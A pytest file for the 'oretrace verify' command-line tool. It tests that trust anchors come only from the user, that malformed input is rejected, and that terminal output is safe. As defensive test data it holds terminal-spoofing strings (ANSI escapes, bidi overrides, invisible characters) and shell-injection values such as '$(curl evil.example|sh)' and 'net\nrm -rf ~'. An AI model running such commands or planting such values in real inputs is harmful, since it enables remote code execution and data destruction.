"""`oretrace verify` takes its trust anchor from the user, never from the bundle
(issue 7 points 1, 9, 10; issue 8 item 4; issue 10 item 6).

Bundles come from the in-memory ledger world of test_ledger_world (the same
rules the server runs); a second world built the same way is a wholly
fabricated network: same network name and organisation ids, its own root key.
Every CLI call runs with its own XDG_CONFIG_HOME and an explicit
ORETRACE_ROOT_PUBLIC_KEY, so no user configuration leaks in.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest
from test_ledger_bundle import required_events
from test_ledger_world import base_world, build_world
from typer.testing import CliRunner

from ledger.bundle import assemble
from sdk.cli import EXIT_BESIDE_KEY, app
from sdk.trust_store import TRUST_STORE_FORMAT, load_anchors

runner = CliRunner()


def bundle_of(world, claim_name: str) -> dict:
    claim_id = world.names[claim_name]
    return assemble(required_events(world, claim_id), claim_id, world.policy.network)


@pytest.fixture(scope="module")
def genuine():
    w = base_world()
    return {"root": w.policy.root_public_key, "network": w.policy.network,
            "clean": bundle_of(w, "CLAIM_CLEAN"), "share": bundle_of(w, "CLAIM_SHARE")}  # fmt: skip


@pytest.fixture(scope="module")
def fabricated():
    w = build_world()  # a new root key: the attacker's own network under the genuine name
    return {"root": w.policy.root_public_key, "clean": bundle_of(w, "CLAIM_CLEAN")}


def write(path: Path, bundle: dict, beside_key: str | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(bundle))
    if beside_key is not None:
        (path.parent / "root-key.hex").write_text(beside_key + "\n")
    return path


def run(args: list[str], config: Path, env_key: str | None = None, anchored: bool = False):
    """`oretrace ARGS`. The bundles here are built by the pure ledger World, with no
    transparency log, so `verify` is told to accept them unanchored unless `anchored`
    (tests/test_log_* and test_cli.py cover anchored bundles)."""
    env = {"XDG_CONFIG_HOME": str(config), "ORETRACE_ROOT_PUBLIC_KEY": env_key}
    if args[0] == "verify" and not anchored:
        args = [*args, "--allow-unanchored"]
    return runner.invoke(app, args, env=env)


def test_an_unanchored_bundle_is_not_proven_by_default(genuine, tmp_path):
    path = write(tmp_path / "b" / "claim.json", genuine["clean"])
    r = run(["verify", str(path), "--json"], tmp_path / "config", env_key=genuine["root"], anchored=True)
    assert r.exit_code == 1, r.output
    report = json.loads(r.stdout)
    assert not report["ok"] and report["checks"][-1]["name"] == "log"
    assert "not anchored" in report["checks"][-1]["detail"]


# --------------------------------------------------------------------------- point 1: the pinned anchor


def test_fabricated_network_with_its_own_key_beside_is_refused(genuine, fabricated, tmp_path):
    assert fabricated["root"] != genuine["root"]
    path = write(tmp_path / "b" / "claim.json", fabricated["clean"], beside_key=fabricated["root"])
    config = tmp_path / "config"
    # genuine key in the environment
    r = run(["verify", str(path)], config, env_key=genuine["root"])
    assert r.exit_code == 1, r.output
    assert "NOT PROVEN" in r.output and "BAD_SIGNATURE" in r.output
    assert "ignored" in r.output and "root-key.hex" in r.output
    r = run(["verify", str(path), "--json"], config, env_key=genuine["root"])
    assert r.exit_code == 1
    report = json.loads(r.stdout)
    assert report["ok"] is False
    assert report["trust_anchor"] == {"root_public_key": genuine["root"], "source": "ORETRACE_ROOT_PUBLIC_KEY",
                                      "network": None}  # fmt: skip
    assert report["ignored_key_file"].endswith("root-key.hex")
    # genuine key in the trust store, nothing in the environment
    assert run(["trust", "add", genuine["network"], genuine["root"]], config).exit_code == 0
    r = run(["verify", str(path), "--json"], config)
    assert r.exit_code == 1, r.output
    assert json.loads(r.stdout)["trust_anchor"]["source"].startswith("trust store")


@pytest.mark.parametrize("holder", ["fabricated", "genuine"])
def test_key_beside_the_bundle_alone_is_never_an_anchor(genuine, fabricated, tmp_path, holder):
    """Even the right key, if it only lies next to the bundle, is refused (exit 3, one-line instruction)."""
    source = {"fabricated": fabricated, "genuine": genuine}[holder]
    path = write(tmp_path / "b" / "claim.json", source["clean"], beside_key=source["root"])
    for extra in ([], ["--json"]):
        r = run(["verify", str(path), *extra], tmp_path / "config")
        assert r.exit_code == EXIT_BESIDE_KEY, r.output
        assert "root-key.hex" in r.output and "oretrace trust add" in r.output
        assert "PROVEN" not in r.output


def test_no_anchor_at_all_exits_2_with_the_instruction(genuine, tmp_path):
    path = write(tmp_path / "claim.json", genuine["clean"])
    r = run(["verify", str(path)], tmp_path / "config")
    assert r.exit_code == 2
    assert f"oretrace trust add {genuine['network']} KEY" in r.output


def test_trust_store_anchor_proves_and_the_report_names_it(genuine, tmp_path):
    config = tmp_path / "config"
    path = write(tmp_path / "claim.json", genuine["clean"])
    r = run(["trust", "add", genuine["network"], genuine["root"].upper()], config)
    assert r.exit_code == 0, r.output
    store = config / "oretrace" / "trust.json"
    assert json.loads(store.read_text())["format"] == TRUST_STORE_FORMAT
    assert load_anchors(store) == {genuine["network"]: genuine["root"]}
    assert store.stat().st_mode & 0o077 == 0
    r = run(["verify", str(path)], config)
    assert r.exit_code == 0, r.output
    assert "PROVEN" in r.output and "trust store" in r.output and genuine["root"] in r.output
    r = run(["verify", str(path), "--json"], config)
    anchor = json.loads(r.stdout)["trust_anchor"]
    assert anchor["root_public_key"] == genuine["root"] and anchor["network"] == genuine["network"]
    # a pin for another network does not serve this one
    other = tmp_path / "config2"
    assert run(["trust", "add", "another-net", genuine["root"]], other).exit_code == 0
    assert run(["verify", str(path)], other).exit_code == 2


def test_trust_add_list_remove(genuine, fabricated, tmp_path):
    config = tmp_path / "config"
    net = genuine["network"]
    assert run(["trust", "add", net, genuine["root"]], config).exit_code == 0
    assert "already pinned" in run(["trust", "add", net, genuine["root"]], config).output
    # a different key for a pinned network needs --replace
    r = run(["trust", "add", net, fabricated["root"]], config)
    assert r.exit_code == 2 and "--replace" in r.output
    assert load_anchors(config / "oretrace" / "trust.json")[net] == genuine["root"]
    listed = json.loads(run(["trust", "list", "--json"], config).stdout)
    assert listed["anchors"] == {net: genuine["root"]}
    assert run(["trust", "add", net, fabricated["root"], "--replace"], config).exit_code == 0
    assert load_anchors(config / "oretrace" / "trust.json")[net] == fabricated["root"]
    assert run(["trust", "remove", net], config).exit_code == 0
    assert run(["trust", "remove", net], config).exit_code == 1
    assert load_anchors(config / "oretrace" / "trust.json") == {}


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["trust", "add", "net", "abc"], "64 hexadecimal"),
        (["trust", "add", "bad net!", "00" * 32], "network name"),
        (["trust", "add", "net", "zz" * 32], "64 hexadecimal"),
    ],
)
def test_trust_add_refuses_bad_input(tmp_path, args, fragment):
    r = run(args, tmp_path / "config")
    assert r.exit_code == 2 and fragment in r.output and "Traceback" not in r.output
    assert not (tmp_path / "config" / "oretrace" / "trust.json").exists()


@pytest.mark.parametrize("content", [b"{\"format\": 1", b"\x00\x01binary", b"[]", b'{"format": "x", "anchors": 7}'])
def test_broken_trust_store_exits_2(genuine, tmp_path, content):
    config = tmp_path / "config"
    (config / "oretrace").mkdir(parents=True)
    (config / "oretrace" / "trust.json").write_bytes(content)
    path = write(tmp_path / "claim.json", genuine["clean"])
    r = run(["verify", str(path)], config)
    assert r.exit_code == 2 and "trust store" in r.output and "Traceback" not in r.output


# --------------------------------------------------------------------------- unreadable input: exit 2


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested deeper"),
        (b'{"format": ' + b"9" * 5000 + b"}", "digits"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not UTF-8"),
        (b'{"format": "oretrace-bundle/v2", "format": "x"}', "duplicate"),
        (b'{"a": "\\ud800"}', "surrogate"),
        (b'{"a": NaN}', "NaN"),
        (b"", "not JSON"),
    ],
    ids=["deep", "huge-int", "binary", "duplicate-key", "lone-surrogate", "nan", "empty"],
)
def test_any_unreadable_file_exits_2(genuine, tmp_path, content, fragment):
    path = tmp_path / "input.json"
    path.write_bytes(content)
    for extra in ([], ["--json"]):
        r = run(["verify", str(path), *extra], tmp_path / "config", env_key=genuine["root"])
        assert r.exit_code == 2, r.output
        assert fragment in r.output and "Traceback" not in r.output


def test_graphql_response_is_named(genuine, tmp_path):
    for response in ({"data": {"disclosureBundle": genuine["clean"]}}, {"data": None, "errors": [{"message": "x"}]}):
        path = write(tmp_path / "response.json", response)
        r = run(["verify", str(path)], tmp_path / "config", env_key=genuine["root"])
        assert r.exit_code == 2
        assert "this is a GraphQL response; the bundle is at .data.disclosureBundle" in " ".join(r.output.split())


def test_v1_bundle_is_refused(genuine, tmp_path):
    old = {**genuine["clean"], "format": "oretrace-bundle/v1"}
    path = write(tmp_path / "old.json", old)
    r = run(["verify", str(path)], tmp_path / "config", env_key=genuine["root"])
    assert r.exit_code == 2 and "protocol v1 bundle; use oretrace < 0.2" in " ".join(r.output.split())


# --------------------------------------------------------------------------- point 9: terminal safety


HOSTILE = [
    "[bold green]PROVEN[/bold green]",
    "[/x] unbalanced [",
    "\x1b[2J\x1b[32mPROVEN\x1b[0m",
    "line\rPROVEN\x08\x07",
    "\u202eNEVORP\u202c :warning:",
]


@pytest.mark.parametrize("text", HOSTILE, ids=["markup", "unbalanced", "esc", "cr-bs-bel", "bidi-emoji"])
def test_markup_and_control_characters_from_a_bundle_print_literally(genuine, tmp_path, text):
    for member in ("claim_id", "lot_ids"):
        bundle = copy.deepcopy(genuine["clean"])
        bundle[member] = [text] if member == "lot_ids" else text
        path = write(tmp_path / f"{member}.json", bundle)
        r = run(["verify", str(path)], tmp_path / "config", env_key=genuine["root"])
        assert r.exit_code == 1, r.output
        assert "Traceback" not in r.output
        assert not any(ch in r.output for ch in "\x1b\r\x08\x07\u202e"), repr(r.output)
        if "[" in text:
            assert text.split("\x1b")[0] in r.output  # brackets printed as typed
        assert ":warning:" in r.output if ":warning:" in text else True
        if any(ch in text for ch in "\x1b\r\x08\u202e"):
            assert "\ufffd" in r.output  # the reader sees that something was removed


def test_hostile_text_inside_an_event_prints_literally(genuine, tmp_path):
    bundle = copy.deepcopy(genuine["clean"])
    bundle["events"][0]["signer"] = "[bold green]PROVEN[/]\x1b[0m"
    path = write(tmp_path / "evt.json", bundle)
    r = run(["verify", str(path)], tmp_path / "config", env_key=genuine["root"])
    assert r.exit_code == 1 and "\x1b" not in r.output and "Traceback" not in r.output
    r = run(["verify", str(path), "--json"], tmp_path / "config", env_key=genuine["root"])
    assert r.exit_code == 1 and "\x1b" not in r.stdout
    json.loads(r.stdout)


#: Printable-looking characters a terminal still obeys or hides: line/paragraph separators
#: (Zl, Zp), soft hyphen, invisible operator, tag characters, Mongolian vowel separator,
#: zero-width space, a bidi isolate, ESC and a C1 CSI.
INVISIBLE = "\u2028\u2029\u00ad\u2061\U000e0041\U000e007f\u180e\u200b\u2067\x1b\x9b"
HOSTILE_NAME = "[bold green]PROVEN[/]" + INVISIBLE + " :warning: \\"


@pytest.fixture(scope="module")
def hostile_world():
    """A genuine network whose root-signed organisation names and auditor-signed site
    names and regions carry markup and invisible characters (signed text, so PROVEN)."""
    import test_ledger_world as tw

    def register(self, org_id, *roles):
        org = tw.Org(org_id, list(roles))
        self.orgs[org_id] = org
        payload = tw.RegisterOrganization(
            org_id=org_id, name=HOSTILE_NAME + org_id, country="CD", roles=list(roles),
            signing_keys=[tw.KeyEntry(key_id=org.key_id, public_key=org.signing.verify_key.encode().hex())],
            sealing_key=org.sealing_public,
        )  # fmt: skip
        self.submit(self.sign(payload, tw.OPERATOR))
        return org

    def site_info(self, site_id, operator, origin_class):
        info = original_site_info(self, site_id, operator, origin_class)
        return info.model_copy(update={"name": HOSTILE_NAME + "site", "region": HOSTILE_NAME + "region"})

    original_site_info = tw.World.site_info
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(tw.World, "register", register)
        mp.setattr(tw.World, "site_info", site_info)
        w = tw.build_world()
    return {"root": w.policy.root_public_key, "share": bundle_of(w, "CLAIM_SHARE")}


def test_invisible_characters_in_signed_names_of_a_proven_bundle_are_not_printed(hostile_world, tmp_path):
    path = write(tmp_path / "share.json", hostile_world["share"])
    r = run(["verify", str(path)], tmp_path / "config", env_key=hostile_world["root"])
    assert r.exit_code == 0, r.output
    assert "Traceback" not in r.output
    leaked = sorted({f"U+{ord(ch):04X}" for ch in r.output if ch in INVISIBLE})
    assert not leaked, leaked
    text = "".join(r.output.split())
    for printed in ("[boldgreen]PROVEN[/]", ":warning:", "region", "refiner"):
        assert printed in text  # markup and emoji codes shown as typed


@pytest.mark.parametrize("ch", list(INVISIBLE) + ["\x7f", "\r", "\n", "\u202e", "\ufeff"])
def test_strip_controls_replaces_every_control_format_and_separator_character(ch):
    from sdk.terminal import safe, strip_controls

    assert strip_controls(f"a{ch}b") == "a\ufffdb"
    assert ch not in safe(f"[x]{ch}")


# --------------------------------------------------------------------------- point 10: what a claim means


def test_share_claim_report_says_book_share_and_lists_sites(genuine, tmp_path):
    path = write(tmp_path / "share.json", genuine["share"])
    r = run(["verify", str(path)], tmp_path / "config", env_key=genuine["root"])
    assert r.exit_code == 0, r.output
    text = " ".join(r.output.split())
    assert "book share (mass balance)" in text and "not the physical content" in text
    assert "ISO 22095): mass balance" in text
    report = json.loads(run(["verify", str(path), "--json"], tmp_path / "config", env_key=genuine["root"]).stdout)
    meaning = report["meaning"]
    assert meaning["model"] == "mass balance"
    classes = {s["origin_class"] for s in meaning["sites"]}
    assert "industrial" in classes and any(c.startswith("recycled_") for c in classes), classes
    for site in meaning["sites"]:
        assert site["name"] and site["country"] and site["region"] and site["site_id"] in text
    assert [t["org_id"] for t in meaning["transformers"]] == ["refiner"]
    assert meaning["identity_preserved"] is False


def test_ancestry_claim_report_names_model_and_transformers(genuine, tmp_path):
    path = write(tmp_path / "clean.json", genuine["clean"])
    report = json.loads(run(["verify", str(path), "--json"], tmp_path / "config", env_key=genuine["root"]).stdout)
    assert report["ok"] and report["meaning"]["model"] == "segregation"
    assert report["meaning"]["transformers"][0]["name"]


@pytest.mark.parametrize("content", [b"[" * 200_000, b'{"a": ' * 100_000 + b"1" + b"}" * 100_000])
def test_deep_nesting_exits_2_even_with_a_raised_recursion_limit(genuine, tmp_path, content):
    """py_ecc raises the recursion limit to 100,000 when imported (the py_ecc curve
    backend does so); json's C scanner then overflowed the C stack on deep input and
    the process died with a segmentation fault. Run in a subprocess so a crash is a
    failure, not the end of the test session."""
    import subprocess
    import sys

    path = tmp_path / "deep.json"
    path.write_bytes(content)
    code = "import py_ecc, sys; from sdk.cli import app; sys.argv = ['oretrace'] + sys.argv[1:]; app()"
    env = {"PYTHONPATH": str(Path(__file__).resolve().parents[1]), "XDG_CONFIG_HOME": str(tmp_path),
           "ORETRACE_ROOT_PUBLIC_KEY": genuine["root"], "PATH": "/usr/bin:/bin"}  # fmt: skip
    r = subprocess.run([sys.executable, "-c", code, "verify", str(path)], env=env, capture_output=True, timeout=300)
    assert r.returncode == 2, (r.returncode, r.stderr[-2000:])
    assert b"nested deeper" in r.stderr + r.stdout and b"Traceback" not in r.stderr


# --------------------------------------------------------------------------- point 9 beyond verify: every CLI output


def test_wallet_and_server_text_prints_literally_in_other_commands(tmp_path):
    """A counterparty's product text (signed, synced into the wallet) in `lots`, and an
    error message carrying outside text (here the endpoint named in it) through `_fail`."""
    from crypto.pedersen import Opening
    from sdk.wallet import LotEntry, Wallet

    w = Wallet.generate("cli-org", "net", root_public_key="ab" * 32, name=HOSTILE_NAME)
    w.add_lot(LotEntry("lot_x", {"industrial": Opening(5, 1)}, product=HOSTILE_NAME))
    w.save(tmp_path / "w.json")
    r = runner.invoke(app, ["lots", "--wallet", str(tmp_path / "w.json"), "--offline"])
    assert r.exit_code == 0, r.output
    r2 = runner.invoke(app, ["lots", "--wallet", str(tmp_path / "w.json"), "--api", "http://127.0.0.1:9/" + HOSTILE_NAME])
    assert r2.exit_code == 2, r2.output
    for out in (r.output, r2.output):
        assert "Traceback" not in out
        leaked = sorted({f"U+{ord(ch):04X}" for ch in out if ch in INVISIBLE})
        assert not leaked, leaked
        assert "[bold green]PROVEN[/]" in "".join(out.split()).replace("[boldgreen]", "[bold green]")


@pytest.mark.parametrize(
    "content",
    [b"[" * 200_000, b'{"org_id": "a", "org_id": "b"}', b"[]", b'{"org_id": "x"}', b"\xff\xfe",
     b'{"org_id": "x-org", "name": "X", "country": "CD", "roles": ["emperor"], "signing_public_key": "00",'
     b' "sealing_public_key": "00"}'],
    ids=["deep", "duplicate", "not-object", "missing", "binary", "invalid-role"],
)
def test_register_reads_another_partys_request_strictly(tmp_path, content):
    """`oretrace register REQUEST`: the request comes from another organisation. Deep
    nesting (which crashed the C decoder under py_ecc's recursion limit), duplicate
    names and malformed requests exit 2 with one line; run in a subprocess so a crash
    is a failure."""
    import os
    import subprocess
    import sys

    from sdk.wallet import Wallet

    (tmp_path / "req.json").write_bytes(content)
    operator = Wallet.generate("operator", "net", key_id="root")
    operator.save(tmp_path / "op.json")
    code = "import crypto.group, py_ecc.bls12_381; from sdk.cli import app; app()"
    r = subprocess.run(
        [sys.executable, "-c", code, "register", str(tmp_path / "req.json"), "--wallet", str(tmp_path / "op.json"),
         "--api", "http://127.0.0.1:9/graphql"],
        capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"},
    )  # fmt: skip
    assert r.returncode == 2, (r.returncode, r.stderr[-500:])
    assert "Traceback" not in r.stderr and "error:" in r.stderr


@pytest.mark.parametrize("network", ["x; touch /tmp/pwned #", "$(curl evil.example|sh)", "a`id`", "net\nrm -rf ~"])
def test_the_suggested_command_never_carries_a_hostile_network_name(genuine, tmp_path, network):
    """The refusal suggests `oretrace trust add NETWORK KEY`; a bundle's own network name
    goes into it only if it is a well-formed name (nothing a shell would interpret)."""
    for beside in (None, genuine["root"]):
        path = write(tmp_path / ("b" if beside else "n") / "claim.json", {**genuine["clean"], "network": network},
                     beside_key=beside)  # fmt: skip
        r = run(["verify", str(path)], tmp_path / "config")
        assert r.exit_code == (EXIT_BESIDE_KEY if beside else 2), r.output
        line = " ".join(r.output.split())
        assert "oretrace trust add NETWORK KEY" in line, line
        assert "touch" not in line.split("trust add")[1] and "curl" not in line.split("trust add")[1]
